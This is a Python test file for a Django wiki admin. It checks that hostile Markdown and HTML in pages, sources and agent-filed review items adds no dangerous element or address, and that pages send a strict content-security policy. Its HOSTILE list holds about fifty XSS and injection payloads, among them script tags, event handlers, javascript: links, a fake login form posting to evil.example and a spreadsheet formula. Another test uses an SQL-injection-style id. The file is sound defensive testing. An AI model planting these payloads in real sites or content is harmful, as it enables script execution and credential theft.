"""P26 in the admin: what pages and agents say is text. A hostile page adds no element, no address and no handler.

Each admin page is compared with itself over a harmless vault of the same shape: whatever element, attribute or address
the hostile text adds is an element that a browser would see.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.test import Client

from reviews.models import ReviewItem
from reviews.services import Finding, file
from tests.conftest import VaultFolder
from tests.mcpapi.hostile import ask
from tests.promises.figures import Measured, figure
from tests.wiki.api.conftest import CLAUDE
from wiki.models import Audit, File, Page
from wiki.sync import scan

#: Addresses that run, pictures that load, elements that cover or redirect, ways out of an attribute or a script.
HOSTILE = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](jav&#x0D;ascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)|x]]",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<svg><a><set attributeName=href to=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=//evil.example/x.svg#a>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "![e](https://evil.example/?d=1)",
    "![[https://evil.example/x.png]]",
    "<img src=https://evil.example/x.png onerror=alert(1)>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<video poster=//evil.example/x autoplay>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    '<div style="position:fixed;inset:0;background:url(//evil.example/x)">x</div>',
    '<form action="//evil.example"><input name=csrfmiddlewaretoken><button>Log in</button></form>',
    '<button formaction="//evil.example">x</button>',
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "</script><script>alert(1)</script>",
    "</textarea></pre></td></title><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) x='",
    "` onclick=alert(1) `",
    '" x-data="alert(1)" x-init="alert(1)" @click="alert(1)"',
    "<p x-data x-init=alert(1) hx-get=//evil.example hx-trigger=load>",
    "{{ request.user.password }}{% load static %}{% debug %}",
    "${alert(1)} #{alert(1)} <%= 1 %>",
    "\u202ealert(1)\u202c <\u200bscript>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '=HYPERLINK("http://evil.example")',
]
HARMLESS = 'words [l](other.md) ![p](x.png) [[Gone]] ![[Gone.png]] <b>bold</b> "quoted" `code` #tag'


class Shape(HTMLParser):
    """The elements of a page, each with the names of its attributes and where its addresses lead."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[tuple[str, tuple[str, ...], tuple[str, ...]]] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = tuple(sorted(name for name, _ in attrs))
        addresses = tuple(sorted(self._leads(value or "") for name, value in attrs if self._is_address(name)))
        self.found.add((tag, names, addresses))

    @staticmethod
    def _is_address(name: str) -> bool:
        return name in (
            "href",
            "src",
            "action",
            "formaction",
            "poster",
            "srcset",
            "data",
            "xlink:href",
            "content",
            "to",
        )

    @staticmethod
    def _leads(value: str) -> str:
        squeezed = re.sub(r"[\x00-\x20]", "", value)
        parts = urlsplit(squeezed if "[" not in squeezed else "")
        return f"{parts.scheme}:{parts.netloc}" if parts.scheme or parts.netloc else "here"


def fill(folder: VaultFolder, text: str) -> list[str]:
    """A page, a source and an item made of a text; gives the addresses of the admin that show them."""
    quoted = json.dumps(text)
    lists = "".join(f"{key}: [{quoted}]\n" for key in ("aliases", "tags", "sources"))
    block = f"---\ntitle: {quoted}\ntype: concept\n{lists}lang: en\n---\n"
    folder.write("wiki/concepts/a.md", f"{block}{text}\n\n# {text}\n\n{HARMLESS}\n")
    folder.write("raw/sources/s.md", f"{text}\n")
    scan()
    page = Page.objects.get(path="wiki/concepts/a.md")
    given = Finding(
        item_type="suggestion",
        rule="agent",
        target="a",
        title=text,
        rationale=text,
        page=page,
        proposed_title=text,
        proposed_body=text,
        search_queries=[text],
    )
    item: ReviewItem = file(findings=[given], origin="agent", author=CLAUDE).filed[0]
    source = File.objects.get(path="raw/sources/s.md")
    return [
        "/admin/wiki/page/",
        f"/admin/wiki/page/{page.pk}/change/",
        "/admin/wiki/link/",
        "/admin/wiki/file/",
        f"/admin/wiki/file/{source.pk}/change/",
        "/admin/wiki/audit/",
        "/admin/reviews/reviewitem/",
        f"/admin/reviews/reviewitem/{item.pk}/change/",
    ]


@pytest.fixture
def boss(db: None) -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("boss"))
    return client


def shapes(folder: VaultFolder, boss: Client, text: str) -> list[set[Any]]:
    ReviewItem.objects.all().delete()
    Audit.objects.all().delete()  # else the list of them gets pages in the course of many texts
    found = []
    for address in fill(folder, text):
        answer = boss.get(address)
        assert answer.status_code == 200, address
        found.append(Shape(answer.content.decode()).found)
    return found


def test_nothing_of_a_page_is_loaded_or_run(vault_folder: VaultFolder, boss: Client, measured: Measured) -> None:
    usual = shapes(vault_folder, boss, HARMLESS)
    tried = HOSTILE[:: figure(4, 1)]
    for text in tried:
        for number, (before, after) in enumerate(zip(usual, shapes(vault_folder, boss, text), strict=True)):
            added = {shape for shape in after - before if _dangerous(shape)}
            assert not added, (text, number, added)
    measured("P26", f"{len(tried)} hostile texts on {len(usual)} pages of the admin: 0 elements or addresses of theirs")


def _dangerous(shape: tuple[str, tuple[str, ...], tuple[str, ...]]) -> bool:
    """Whether an element that a harmless text does not bring could load, run, cover, send or lead away."""
    tag, names, addresses = shape
    plain = tag in {
        "a",
        "span",
        "div",
        "li",
        "ul",
        "td",
        "th",
        "tr",
        "p",
        "del",
        "ins",
        "mark",
        "code",
        "bdi",
        "option",
    }
    quiet = all(name in {"class", "href", "title", "dir", "id", "data-label", "value"} for name in names)
    return not (plain and quiet and all(leads == "here" for leads in addresses))


@pytest.mark.parametrize("text", ["<b>x</b>", *HOSTILE[9:48:6]])
def test_the_comparison_sees_what_is_not_escaped(text: str) -> None:
    usual = Shape("<p>words</p>").found
    raw = {shape for shape in Shape(f"<p>{text}</p>").found - usual if _dangerous(shape)}
    assert raw or "<" not in text


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize(
    "path", ["/admin/login/", "/admin/", "/docs", "/status", "/nowhere", "/static/none.js", "/mcp/info"]
)
def test_each_page_has_its_policy(path: str, vault_folder: VaultFolder) -> None:
    answer = ask(method="GET", path=path)
    said = {name.decode().lower(): value.decode() for name, value in answer.headers}
    policy = dict(part.strip().split(" ", 1) for part in said["content-security-policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["base-uri"] == "'none'"
    assert policy["form-action"] in ("'self'", "'none'")
    assert "unsafe-inline" not in said["content-security-policy"]
    assert not re.search(r"https?:|\*", said["content-security-policy"])
    assert set(policy.get("img-src", "").split()) <= {"'self'", "data:"}
    assert said["x-frame-options"] == "DENY"
    assert said["x-content-type-options"] == "nosniff"


def test_no_list_is_edited_in_place() -> None:
    assert admin.site._registry
    for shown in admin.site._registry.values():
        assert not shown.list_editable, shown


def test_ids_of_another_vault_are_not_decided(vault_folder: VaultFolder, boss: Client) -> None:
    addresses = fill(vault_folder, "words")
    before = list(ReviewItem.objects.values())
    foreign = ["3f2b8c1e-0000-4000-8000-000000000000", "7", "x", "' OR 1=1"]
    for address in (addresses[6], f"{addresses[6]}bulk/"):
        answer = boss.post(address, {"action": "skip", "_selected_action": foreign, "index": "0"}, follow=True)
        assert answer.status_code == 200
    assert boss.post(f"{addresses[6]}{foreign[0]}/decide/", {"action": "skip"}).status_code in (302, 404)
    assert list(ReviewItem.objects.values()) == before
